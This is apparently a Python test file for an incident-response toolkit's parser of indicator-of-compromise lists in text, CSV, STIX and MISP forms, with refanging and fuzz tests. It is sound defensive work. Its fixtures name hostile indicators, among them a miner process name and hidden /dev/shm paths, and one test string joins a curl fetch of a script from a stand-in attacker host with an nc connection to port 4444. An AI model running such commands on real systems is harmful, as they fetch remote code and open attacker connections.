"""Lists of indicators, in each form; what they answer, and what they say that they do not use."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from irkit.compare.ioc import IocLists, refang
from irkit.compare.ioc_formats import ioc_from, load_ioc, read_ioc
from irkit.errors import UsageProblem
from irkit.home import home

A, B = "a" * 64, "b" * 32
PLAIN = f"""# from somewhere
{A}
{B}  sum.bin
hxxps://evil[.]example/x.sh
198.51.100[.]7
203.0.113.0/24   # a network
2001:db8::/32
bad(dot)example
*.worse.example
/tmp/.hidden/*
/dev/shm/.x
name:kdevtmpfsi
run.sh
d41d8cd98f00b204e9800998ecf8427e
0.0.0.0/0
127.0.0.1
two words
"""


def lists(data: str | bytes | Any, name: str = "l") -> IocLists:
    raw = data if isinstance(data, bytes) else data.encode() if isinstance(data, str) else json.dumps(data).encode()
    return IocLists([ioc_from(raw, name)])


def test_a_plain_list() -> None:
    found = lists(PLAIN)
    assert [str(one) for one in found.of_file("/x", {"sha256": A.upper()})] == [f"sha256 {A} in l"]
    assert found.of_file("/x", {"md5": B})
    assert not found.of_file("/x", {"md5": "c" * 32, "sha256": "zz"})
    assert found.of_file("/dev/shm/.x", {})
    assert found.of_file("/tmp/.hidden/a/b", {})
    assert found.of_file("/usr/bin/kdevtmpfsi", {})
    assert found.of_file("/opt/run.sh", {})
    assert found.of_name("run.sh")
    assert found.of_address("198.51.100.7")
    assert found.of_address("::ffff:198.51.100.7")
    assert found.of_address("203.0.113.200")
    assert found.of_address("2001:db8:1::1%eth0")
    assert not found.of_address("198.51.100.8")
    assert not found.of_address("no address")
    assert found.of_name("a.b.bad.example.")
    assert found.of_name("WORSE.example")
    assert not found.of_name("notbad.example")
    assert found.of_url("HTTPS://evil.example/x.sh#y")
    assert found.of_url("http://user@bad.example:8080/z")
    assert found.of_url("http://[2001:db8::5]:80/")
    (unused,) = (one.unused for one in found.lists)
    assert sum(unused.values()) == 4
    assert any("empty file" in why for why in unused)
    assert any("wide" in why for why in unused)


def test_text_is_searched() -> None:
    found = lists(PLAIN)
    text = "curl https://evil.example/x.sh; nc 203.0.113.9:4444; ping sub.bad.example"
    assert {one.kind for one in found.of_text(text)} == {"url", "network", "domain"}
    assert found.of_text("nothing of note 1.2.3 4:5") == ()


def test_csv_with_and_without_a_header() -> None:
    found = lists(f'Type;Indicator;Comment\nSHA-256;"{A}";x\nIPv4;198.51.100.7;y\nmutex;zzz;z\n')
    assert found.of_file("/x", {"sha256": A})
    assert found.of_address("198.51.100.7")
    found = lists("first_seen,ip_address,domain,filename\n2026,198.51.100.7,bad.example,dropper\n,,,\n")
    assert found.of_address("198.51.100.7")
    assert found.of_name("bad.example")
    assert found.of_file("/x/dropper", {})
    found = lists(f"2026-01-01,{A},hello\n2026,nothing,here\n")
    assert found.of_file("/x", {"sha256": A})
    assert list(found.lists[0].unused.values()) == [1]


def indicator(pattern: str, **more: Any) -> dict[str, Any]:
    return {"type": "indicator", "pattern_type": "stix", "pattern": pattern, **more}


def test_stix() -> None:
    found = lists(
        {
            "type": "bundle",
            "objects": [
                indicator(
                    f"[file:hashes.'SHA-256' = '{A}' OR file:hashes.MD5 = '{B}'] OR [ipv4-addr:value = '198.51.100.7']"
                ),
                indicator("[domain-name:value IN ('bad.example', 'worse.example')]"),
                indicator("[url:value = 'http://u.example/it\\'s']"),
                indicator(f"[file:name = 'n' AND file:hashes.'SHA-1' = '{'c' * 40}']"),
                indicator("[ipv6-addr:value = '2001:db8::1']", revoked=True),
                indicator("[ipv4-addr:value = '198.51.100.9' AND network-traffic:dst_port = 443]"),
                indicator("[ipv4-addr:value != '198.51.100.9']"),
                indicator("[file:size > 5]"),
                indicator("[ipv4-addr:value = '198.51.100.9'] FOLLOWEDBY [domain-name:value = 'x.example']"),
                indicator("alert tcp any", pattern_type="snort"),
                {"type": "malware", "name": "x"},
                indicator("[" * 30000),
                indicator("[process:name = 'x']"),
                None,
            ],
        }
    )
    assert found.of_file("/x", {"sha256": A})
    assert found.of_file("/x", {"md5": B})
    assert found.of_file("/x", {"sha1": "c" * 40})
    assert not found.of_file("/x/n", {})
    assert found.of_address("198.51.100.7")
    assert not found.of_address("198.51.100.9")
    assert not found.of_address("2001:db8::1")
    assert found.of_name("worse.example")
    assert found.of_url("http://u.example/it's")
    assert sum(found.lists[0].unused.values()) == 8


def test_misp() -> None:
    event = {
        "Event": {
            "Attribute": [
                {"type": "filename|sha256", "value": f"x.bin|{A}", "to_ids": True},
                {"type": "ip-dst|port", "value": "198.51.100.7|443", "to_ids": True},
                {"type": "domain", "value": "quiet.example", "to_ids": False},
                {"type": "comment", "value": "x", "to_ids": True},
            ],
            "Object": [{"Attribute": [{"type": "hostname", "value": "bad.example", "to_ids": True}]}],
        }
    }
    for document in (event, {"response": [event]}, [event]):
        found = lists(document)
        assert found.of_file("/x", {"sha256": A})
        assert not found.of_file("/x.bin", {})
        assert found.of_address("198.51.100.7")
        assert found.of_name("x.bad.example")
        assert not found.of_name("quiet.example")
        assert len(found.lists[0].unused) == 2


def test_own_lists_and_given_ones(tmp_path: Path) -> None:
    folder = home() / "forensics/ioc"
    folder.mkdir(parents=True)
    (folder / "own.txt").write_text("bad.example\n")
    given = tmp_path / "more.csv"
    given.write_text("domain\nworse.example\n")
    found = load_ioc([given])
    assert {one.source for one in found.lists} == {"own.txt", "more.csv"}
    assert found.of_name("worse.example")
    with pytest.raises(UsageProblem, match="can't read"):
        read_ioc(tmp_path / "absent")


@pytest.mark.parametrize("data", [b"{", b'{"type": "bundle"', b'{"a":' * 100_000])
def test_broken_json_is_said(data: bytes) -> None:
    with pytest.raises(UsageProblem):
        ioc_from(data, "x.json")


def test_defanged() -> None:
    assert refang("hXXp://a[.]b(.)c[dot]d[:]80") == "http://a.b.c.d:80"
    assert refang("plain.example") == "plain.example"


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=200) | st.text(st.sampled_from("[]{}\"',:;=a1./|\n ORAND"), max_size=120).map(str.encode))
def test_nothing_in_a_list_raises_but_a_sentence(data: bytes) -> None:
    try:
        found = IocLists([ioc_from(data, "x")])
    except UsageProblem:
        return
    found.of_text(data.decode("utf-8", "replace"))
    found.of_file("/x", {"md5": B})


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(["type", "objects", "Event", "Attribute", "pattern", "value", "to_ids", "response"]),
            inner,
            max_size=4,
        )
    ),
    max_leaves=12,
)


@settings(max_examples=80, deadline=None)
@given(JSON)
def test_no_json_raises(document: Any) -> None:
    ioc_from(json.dumps({"type": "bundle", "objects": document}).encode(), "x")
    ioc_from(json.dumps({"Event": document}).encode(), "x")
    ioc_from(json.dumps({"response": [{"Event": {"Attribute": document}}]}).encode(), "x")
